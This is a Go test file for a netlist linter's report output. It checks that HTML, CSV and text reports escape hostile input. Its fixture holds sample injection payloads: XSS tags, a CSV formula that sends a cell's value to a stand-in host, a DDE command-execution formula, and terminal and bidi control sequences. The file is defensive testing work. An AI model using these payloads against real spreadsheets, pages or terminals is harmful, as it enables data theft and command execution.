package report

import (
	"bytes"
	"encoding/csv"
	"flag"
	"os"
	"path/filepath"
	"strings"
	"testing"
	"unicode/utf8"

	"github.com/biaslint/biaslint/netlist"
	"github.com/biaslint/biaslint/rules"
)

var update = flag.Bool("update", false, "rewrite the golden files under testdata")

func TestPrintable(t *testing.T) {
	for _, tc := range []struct{ in, want string }{
		{"Q1 plain", "Q1 plain"},
		{"tab\tand\nnewline", "tab\tand\nnewline"},
		{"esc\x1b[2Jclear", `esc\x1b[2Jclear`},
		{"bell\x07", `bell\x07`},
		{"cr\roverwrite", `cr\roverwrite`},
		{"nul\x00", `nul\x00`},
		{"del\x7f", `del\x7f`},
		{"csi\u009b31m", `csi\u009b31m`},         // C1 control (ECMA-48 CSI)
		{"rtl\u202egnp.exe", `rtl\u202egnp.exe`}, // Unicode bidi override (UAX #9)
		{"iso\u2066x\u2069", `iso\u2066x\u2069`}, // bidi isolates
		{"bad\xffutf8", `bad\xffutf8`},           // not UTF-8
		{"µA Ω kΩ", "µA Ω kΩ"},                   // printable text is left alone
		{`back\slash`, `back\slash`},
	} {
		if got := Printable(tc.in); got != tc.want {
			t.Errorf("Printable(%q) = %q, want %q", tc.in, got, tc.want)
		}
	}
}

// hostile is a report whose every netlist-derived text is an attack on
// one of the outputs: markup for the HTML page, formulas for a spreadsheet
// reading the CSV (the OWASP CSV injection cheat sheet's payload forms),
// terminal controls for the text report.
func hostile() *Report {
	path := `=HYPERLINK("http://x.example/?"&A1)<script>.cir`
	pos := netlist.Pos{File: path, Line: 3, Col: 1}
	wpos := netlist.Pos{File: path, Line: 9, Col: 1}
	return &Report{Version: "test", Files: []File{
		{
			Path:  path,
			Title: "</title><script>alert(1)</script>\x1b[2J\u202eevil",
			Findings: []rules.Finding{
				{Rule: "floating-base", Severity: rules.SeverityWarning, Device: "@SUM(1+1)*cmd|' /C calc'!A0", Pos: pos,
					Scenario: "nominal", Nets: []string{"+cmd", "-2+3", "0"},
					Message: "-2+3 <b>bold</b> & \x1b]0;title\x07", Fix: "+call the <i>instructor</i>"},
				{Rule: "vce-over-rating", Severity: rules.SeverityError, Device: "<img src=x onerror=alert(1)>", Pos: pos,
					Scenario: "nominal", HasLimit: true, Value: 48, Limit: 40, Unit: "V", Message: "\tVCE\r too high"},
				{Rule: "weak-switch-drive", Severity: rules.SeverityWarning, Device: "Q3", Pos: pos, Waived: true,
					WaiverReason: "\"><svg onload=alert(1)>\r\tfake.cir:1:1: error: forged", WaiverPos: wpos},
			},
			Notes: []*netlist.Error{{Pos: pos, Severity: netlist.SevWarning, Msg: "<iframe src=//x.example> \x1b[31mred"}},
		},
		{Path: "@lab 2.cir", Title: "-1+1"},
	}}
}

// hostileGolden compares got with testdata/name, or rewrites it.
func hostileGolden(t *testing.T, name, got string) {
	t.Helper()
	path := filepath.Join("testdata", name)
	if *update {
		if err := os.WriteFile(path, []byte(got), 0o644); err != nil {
			t.Fatal(err)
		}
		return
	}
	want, err := os.ReadFile(path)
	if err != nil {
		t.Fatalf("%v (run with -update)", err)
	}
	if got != string(want) {
		t.Errorf("%s differs (run with -update to accept):\n%s", path, got)
	}
}

func TestHostileHTML(t *testing.T) {
	got := htmlOf(t, hostile(), HTMLOptions{Title: "<b>class</b> review"})
	for _, bad := range []string{"<script", "<img", "<svg onload", "<iframe", "<b>", "<i>", "\x1b", "\u202e"} {
		if strings.Contains(got, bad) {
			t.Errorf("the page holds %q unescaped", bad)
		}
	}
	for _, want := range []string{"&lt;script&gt;", "&lt;img src=x onerror=alert(1)&gt;", "&lt;iframe", "&lt;svg onload"} {
		if !strings.Contains(got, want) {
			t.Errorf("the page does not show %q escaped", want)
		}
	}
	hostileGolden(t, "hostile.html", got)
}

func TestHostileCSV(t *testing.T) {
	for _, tc := range []struct {
		name  string
		write func(*bytes.Buffer, *Report) error
	}{
		{"hostile.csv", func(b *bytes.Buffer, r *Report) error { return CSV(b, r) }},
		{"hostile-summary.csv", func(b *bytes.Buffer, r *Report) error { return SummaryCSV(b, r) }},
	} {
		var b bytes.Buffer
		if err := tc.write(&b, hostile()); err != nil {
			t.Fatal(err)
		}
		recs, err := csv.NewReader(bytes.NewReader(b.Bytes())).ReadAll()
		if err != nil {
			t.Fatalf("%s: not CSV: %v", tc.name, err)
		}
		for i, rec := range recs[1:] {
			for j, c := range rec {
				if c != "" && strings.ContainsRune("=+-@\t\r", rune(c[0])) && !isNumber(c) {
					t.Errorf("%s row %d column %d: %q would start a formula", tc.name, i+1, j+1, c)
				}
				if strings.ContainsAny(c, "\x1b\x07\r\n") {
					t.Errorf("%s row %d column %d: %q holds a control character", tc.name, i+1, j+1, c)
				}
			}
		}
		hostileGolden(t, tc.name, b.String())
	}
}

// isNumber reports whether a CSV cell is one of our numbers (a negative
// value starts with '-' and must stay a number).
func isNumber(s string) bool {
	return strings.Trim(s, "0123456789.e+-") == ""
}

func TestHostileText(t *testing.T) {
	var b bytes.Buffer
	if err := Text(&b, hostile(), TextOptions{Notes: true, Transistors: true}); err != nil {
		t.Fatal(err)
	}
	got := b.String()
	for i, r := range got {
		if r == utf8.RuneError || (r < 0x20 && r != '\n' && r != '\t') || r == 0x7f || (0x80 <= r && r <= 0x9f) || (0x202a <= r && r <= 0x202e) {
			t.Fatalf("the text report holds %U at byte %d:\n%s", r, i, got)
		}
	}
	if !strings.Contains(got, `\x1b[2J`) || !strings.Contains(got, `\r`) {
		t.Errorf("the controls are not shown as escapes:\n%s", got)
	}
	hostileGolden(t, "hostile.txt", got)
	// With colour on, our own colour codes remain and the input's do not.
	b.Reset()
	if err := Text(&b, hostile(), TextOptions{Color: true}); err != nil {
		t.Fatal(err)
	}
	if !strings.Contains(b.String(), "\x1b[1m") || strings.Contains(b.String(), "\x1b[2J") || strings.Contains(b.String(), "\x1b]0;") {
		t.Errorf("colour codes: ours missing or the input's passed through:\n%q", b.String())
	}
}
